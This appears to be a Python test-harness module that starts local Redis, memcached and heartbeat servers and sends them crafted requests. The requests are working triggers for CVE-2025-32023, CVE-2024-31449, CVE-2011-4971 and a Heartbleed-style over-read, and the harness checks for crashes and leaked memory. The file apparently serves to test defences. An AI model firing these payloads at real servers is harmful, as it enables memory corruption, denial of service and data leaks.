# SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
"""Just enough of three protocols to attack a server and to see what it still
knows. Each class: the service's command line, set and get of values, and
attack(), which returns what the server answered (None: nothing)."""

import os
import socket
import struct

from .server import Down, Server, free_port


class Client:
    """Whole requests and replies on one connection."""

    def __init__(self, server):
        self.server, self.socket, self.buffer = server, server.connect(), b""
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def close(self):
        self.socket.close()

    def _more(self):
        try:
            got = self.socket.recv(1 << 16)
        except OSError as error:
            raise Down(str(error)) from None
        if not got:
            raise Down("connection closed")
        self.buffer += got

    def send(self, data):
        try:
            self.socket.sendall(data)
        except OSError as error:
            raise Down(str(error)) from None

    def line(self):
        while b"\n" not in self.buffer:
            self._more()
        line, self.buffer = self.buffer.split(b"\n", 1)
        return line.rstrip(b"\r")

    def exactly(self, count):
        while len(self.buffer) < count:
            self._more()
        data, self.buffer = self.buffer[:count], self.buffer[count:]
        return data


class Redis(Client):
    KEYS = 2000

    @staticmethod
    def start(tree):
        port = free_port()
        return Server([os.path.join(tree, "src/redis-server"), "--port", str(port), "--bind", "127.0.0.1",
                       "--save", "", "--appendonly", "no"], port, tree)

    def command(self, *words):
        parts = [w if isinstance(w, bytes) else str(w).encode() for w in words]
        self.send(b"*%d\r\n" % len(parts) + b"".join(b"$%d\r\n%s\r\n" % (len(p), p) for p in parts))
        return self.reply()

    def reply(self):
        line = self.line()
        kind, rest = line[:1], line[1:]
        if kind == b"$":
            if int(rest) < 0:
                return None
            data = self.exactly(int(rest) + 2)[:-2]
            return data
        if kind == b"*":
            return [self.reply() for _ in range(int(rest))]
        return line

    def set(self, key, value):
        if self.command("SET", key, value) != b"+OK":
            raise Down(f"SET {key} refused")

    def get(self, key):
        return self.command("GET", key)


def sparse_hyperloglog(register):
    """A sparse HyperLogLog whose run lengths overflow an int, so that values are
    written from this (negative) register on."""
    longest = 16384
    zeros, rest = divmod((1 << 32) + register, longest)
    opcodes = b"\x7f\xff" * zeros
    if rest:
        opcodes += struct.pack(">H", 0x4000 | (rest - 1))
    # Runs of four registers of the largest value.
    return b"HYLL\x01\0\0\0" + b"\0" * 7 + b"\x80" + opcodes + b"\xff" * 32


class HyperLogLog(Redis):
    """CVE-2025-32023 (hyperloglog.c). Two ways to the same missing check."""
    ANSWERS = (b"-INVALIDOBJ",)

    def prepare(self):
        # 12 MiB in front of the dense object on the heap; and on the stack, in
        # front of the array PFCOUNT merges into.
        self.set("attack:heap", sparse_hyperloglog(-(16 << 20)))
        self.set("attack:stack", sparse_hyperloglog(-200000))
        self.set("attack:other", sparse_hyperloglog(-4000))

    def attack(self, number):
        if number % 2 == 0:
            # What is converted is gone when the conversion fails: same key again.
            return self.command("PFDEBUG", "GETREG", "attack:heap")
        return self.command("PFCOUNT", "attack:stack", "attack:other")


class BitToHex(Redis):
    """CVE-2024-31449 (deps/lua/src/lua_bit.c): the smallest int has no negative.
    clang -O2 may and does assume that there is one: its code has no hole."""
    ANSWERS = (b":8",)
    UNREACHABLE = "clang's code gives 8 digits, as patched"

    def prepare(self):
        self.script = "return #bit.tohex(65535, -2147483648)"

    def attack(self, number):
        return self.command("EVAL", self.script, "0")


class Memcached(Client):
    KEYS = 2000
    # Quiet add; its error is answered all the same.
    ANSWERS = (b"\x81",)

    @staticmethod
    def start(tree):
        port = free_port()
        user = ["-u", "nobody"] if os.geteuid() == 0 else []
        return Server([os.path.join(tree, "memcached"), "-l", "127.0.0.1", "-p", str(port), "-U", "0",
                       "-t", "2", *user], port, tree)

    def set(self, key, value):
        data = value.encode()
        self.send(f"set {key} 7 0 {len(data)}\r\n".encode() + data + b"\r\n")
        if self.line() != b"STORED":
            raise Down(f"set {key} refused")

    def get(self, key):
        self.send(f"get {key}\r\n".encode())
        head = self.line()
        if head == b"END":
            return None
        data = self.exactly(int(head.split()[3]) + 2)[:-2]
        self.line()
        return data


class BodyLength(Memcached):
    """CVE-2011-4971 (memcached.c): the body is said to be shorter than its key
    and extras, by -33 bytes: the length of what follows is negative."""

    def prepare(self):
        pass

    def attack(self, number):
        with self.server.connect(10) as s:
            header = struct.pack(">BBHBBHIIQ", 0x80, 0x12, 1, 8, 0, 0, (-24) & 0xffffffff, 0, 0)
            s.sendall(header + struct.pack(">II", 0xffffff, 0xff010000) + b"\0" + b"abad1dea\r\n")
            try:
                answer = s.recv(24)
            except OSError as error:
                raise Down(str(error)) from None
            if not answer:
                raise Down("connection closed")
            return answer


class Heartbeat(Client):
    """A heartbeat that claims more than it brings (attacks/heartbeat.c)."""
    KEYS = 500
    CLAIMED = 16384
    PAYLOAD = b"are you there?"
    ANSWERS = (b"h",)

    @staticmethod
    def start(program):
        port = free_port()
        return Server([program, str(port)], port, "/")

    def set(self, key, value):
        self.send(f"S {key} {value}\n".encode())
        if self.line() != b"ok":
            raise Down(f"S {key} refused")

    def get(self, key):
        self.send(f"G {key}\n".encode())
        return self.line() or None

    def prepare(self):
        pass

    def attack(self, number):
        self.send(b"H" + struct.pack(">H", self.CLAIMED) + self.PAYLOAD + b"\n")
        return self.exactly(1 + self.CLAIMED)

    def leaked(self, answer):
        """Bytes that came from no request."""
        return sum(byte != 0 for byte in answer[1 + len(self.PAYLOAD):])
